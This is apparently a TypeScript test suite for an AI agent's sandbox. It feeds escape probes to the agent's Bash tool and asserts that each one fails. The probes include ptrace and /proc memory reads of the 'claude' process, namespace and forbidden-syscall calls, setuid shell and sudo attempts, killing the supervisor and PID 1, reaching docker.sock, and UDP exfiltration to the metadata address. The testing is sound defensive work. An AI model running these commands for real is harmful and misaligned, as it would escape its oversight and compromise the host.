/** Other processes, the kernel and the host's sockets, tried in one run by the agent's own Bash tool. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { chmodSync, mkdirSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { filteredArch } from '../../src/executors/local/seccomp.ts';
import { EXAMINED, FORBIDDEN } from '../../src/executors/local/syscalls.ts';
import { openStage, type Stage } from '../support/server/stage.ts';
import { type Probes, probe } from './attacker.ts';

const pick = filteredArch(process.arch) === 'arm64' ? 1 : 0;
const CLONE_NEWUSER = 0x10000000;
const PTRACE_SEIZE = 0x4206;

const call = (number: number, ...args: readonly number[]): string =>
  `perl -e '$r = syscall(${[number, ...args].join(', ')}); print $r == -1 ? "error " . ($!+0) : "DONE", "\\n"'`;
const forbidden = (name: string, ...args: readonly number[]): string => call(FORBIDDEN[name]?.[pick] ?? -1, ...args);

/** Things of the host that answer whoever reaches them. */
const openHost = async () => {
  const reached: string[] = [];
  const dir = join(tmpdir(), `slipway-host-${process.pid}`);
  mkdirSync(dir, { recursive: true });
  const named = createServer((socket) => socket.end(String(reached.push('socket'))));
  const abstract = createServer((socket) => socket.end(String(reached.push('abstract'))));
  const datagrams = createSocket('udp4', () => reached.push('datagram'));
  named.listen(join(dir, 'docker.sock'));
  abstract.listen(`\0slipway-host-${process.pid}`);
  datagrams.bind(0, '0.0.0.0');
  await Promise.all([once(named, 'listening'), once(abstract, 'listening'), once(datagrams, 'listening')]);
  // Nothing but the walls keeps the agent, who is another user, from them.
  chmodSync(dir, 0o755);
  chmodSync(join(dir, 'docker.sock'), 0o777);
  return {
    reached,
    socket: join(dir, 'docker.sock'),
    abstract: `slipway-host-${process.pid}`,
    port: datagrams.address().port,
    close: () => {
      for (const one of [named, abstract, datagrams]) one.close();
      rmSync(dir, { recursive: true });
    },
  };
};

let stage: Stage;
let host: Awaited<ReturnType<typeof openHost>>;
let seen: Probes;
beforeAll(async () => {
  [stage, host] = await Promise.all([openStage(), openHost()]);
  const addresses = Object.values(networkInterfaces()).flatMap((all) => (all ?? []).map(({ address }) => address));
  const cli = 'p=$(pgrep -xo claude); [ -n "$p" ] || echo NONE';
  seen = await probe(stage, {
    trace: `${cli}; perl -e '$r = syscall(${FORBIDDEN.ptrace?.[pick]}, ${PTRACE_SEIZE}, $ARGV[0] + 0, 0, 0); print $r == -1 ? $!+0 : "DONE", "\\n"' "$p"`,
    memory: `${cli}; for t in /proc/$p /proc/$p/task/*; do (exec 3<> $t/mem) 2>/dev/null && echo OPENED
      (exec 3< $t/environ) 2>/dev/null && echo OPENED; ls $t/fd 2>/dev/null; done; echo looked`,
    output: `${cli}; for t in /proc/$p /proc/$p/task/* /proc/1; do for fd in 0 1 2 3 4 9; do
      (echo forged >> $t/fd/$fd) 2>/dev/null && echo OPENED; (echo x < $t/fd/$fd) 2>/dev/null && echo READ; done; done; echo looked`,
    namespaces: `unshare --user true && echo MADE; unshare --user --map-root-user --mount --net --pid --fork true && echo MADE
      bwrap --unshare-user --ro-bind / / true && echo MADE; nsenter --user=/proc/1/ns/user true && echo ENTERED
      ${call(EXAMINED.unshare[pick], CLONE_NEWUSER)}; ${call(EXAMINED.clone[pick], CLONE_NEWUSER + 17, 0, 0, 0, 0)}`,
    kernel: [
      forbidden('bpf', 0, 0, 0),
      forbidden('keyctl', 0, -3, 1),
      forbidden('userfaultfd', 1),
      forbidden('perf_event_open', 0, 0, -1, -1, 0),
      forbidden('mount', 0, 0, 0, 0, 0),
      forbidden('init_module', 0, 0, 0),
      call(EXAMINED.socket[pick], 17, 3, 768),
      call(EXAMINED.socket[pick], 38, 5, 0),
    ].join('\n'),
    setuid: `cp /bin/sh s; chmod 6755 s; ./s -p -c 'id -u; id -ru'; su root -c 'echo ROOT' < /dev/null; sudo -n id
      for f in $(find /usr /bin /sbin -xdev -perm -4000 -type f 2>/dev/null); do timeout 2 "$f" --help < /dev/null > /dev/null 2>&1; done
      setpriv --reuid=0 echo ROOT; grep -h CapBnd /proc/self/status > /dev/null; id -u`,
    // The loader says who a program works for, and is silent where the kernel made it work for somebody else.
    loader: `for f in $(find /usr/bin /usr/sbin -xdev -perm /6000 -type f -perm -o+x); do
        timeout 2 env LD_SHOW_AUXV=1 "$f" --help < /dev/null 2> /dev/null | grep -q '^AT_EUID: *1000$' && echo SELF || echo "OTHER $f"; done`,
    supervisor: `cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -c 'slipway-[s]upervisor'
      kill -9 ${stage.server().pid} && echo KILLED; kill -9 ${process.pid} && echo KILLED
      kill -STOP 1; kill -9 1; kill -TERM 1; grep State /proc/1/status | grep -c T; ls -d /proc/[0-9]* | wc -l`,
    sockets: `for s in ${host.socket} /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock \\
        /run/dbus/system_bus_socket /run/systemd/private /run/user/0/bus; do
        curl -s -m 2 --unix-socket $s http://x/ && echo REACHED; [ -e $s ] && echo SEEN; done
      curl -s -m 2 --abstract-unix-socket ${host.abstract} http://x/ && echo REACHED; find / -xdev -type s 2>/dev/null`,
    datagrams: `for a in 127.0.0.1 ${addresses.join(' ')} 169.254.169.254 8.8.8.8; do
        (echo secret > /dev/udp/$a/${host.port}) 2>/dev/null; (echo secret > /dev/udp/$a/53) 2>/dev/null; done
      cat /etc/resolv.conf; getent hosts secret.example.com; ip route 2>/dev/null; echo sent`,
    devices: `mknod b b 8 0 && echo MADE; mknod c c 1 1 && echo MADE; for d in mem kmem kmsg port sda vda nvme0n1 fuse kvm net/tun loop-control; do
        (exec 3< /dev/$d) 2>/dev/null && echo "OPENED $d"; done; ls /dev`,
  });
}, 120_000);
afterAll(async () => {
  host.close();
  await stage.close();
});

describe('the agent’s program', () => {
  it('cannot be traced by the tools that it starts', () => {
    expect(seen.of('trace')).toEqual(['1']);
  });

  it('shows nobody its memory, its environment and its descriptors', () => {
    expect(seen.of('memory')).toEqual(['looked']);
  });

  it('has an output that nobody else can open', () => {
    expect(seen.of('output')).toEqual(['looked']);
    expect(seen.run.status).toBe('succeeded');
  });
});

describe('the kernel', () => {
  it('makes no namespaces in the namespaces', () => {
    const lines = seen.of('namespaces');
    expect(lines.filter((line) => line === 'error 1')).toHaveLength(2);
    expect(lines.join('\n')).not.toMatch(/MADE|ENTERED|DONE/);
  });

  it('has no calls for who attacks it', () => {
    expect(seen.of('kernel')).toEqual([1, 1, 1, 1, 1, 1, 97, 97].map((error) => `error ${error}`));
  });

  it('gives no rights by setuid programs', () => {
    const lines = seen.of('setuid');
    expect(lines.filter((line) => /^\d+$/.test(line))).toEqual(['1000', '1000', '1000']);
    expect(lines.join('\n')).not.toMatch(/^ROOT|uid=0/m);
    expect(seen.of('loader')).toContain('SELF');
    expect(seen.of('loader').filter((line) => line !== 'SELF')).toEqual([]);
  });

  it('shows no device but the harmless ones, and lets none be made', () => {
    const lines = seen.of('devices').filter((line) => !line.startsWith('mknod:'));
    const harmless = ['console', 'core', 'fd', 'full', 'null', 'ptmx', 'pts', 'random', 'shm', 'stderr', 'stdin'];
    expect(lines.filter((line) => ![...harmless, 'stdout', 'tty', 'urandom', 'zero'].includes(line))).toEqual([]);
  });
});

describe('the host', () => {
  it('has no supervisor, server or test that can be seen, killed or stopped', () => {
    const numbers = seen
      .of('supervisor')
      .filter((line) => /^\d+$/.test(line))
      .map(Number);
    expect(numbers.slice(0, 2)).toEqual([0, 0]);
    expect(numbers[2]).toBeLessThan(20);
    expect(seen.of('supervisor').join('\n')).not.toContain('KILLED');
    expect(seen.run).toMatchObject({ status: 'succeeded', limitsHit: [] });
  });

  it('has no socket that can be reached, by path or by abstract name', () => {
    expect(host.reached.filter((name) => name !== 'datagram')).toEqual([]);
    expect(seen.of('sockets').filter((line) => !line.startsWith('/run/slipway/'))).toEqual([]);
  });

  it('hears no datagram, and no name is ever asked of anybody', () => {
    expect(host.reached.filter((name) => name === 'datagram')).toEqual([]);
    expect(seen.of('datagrams')).toEqual(['sent']);
  });
});
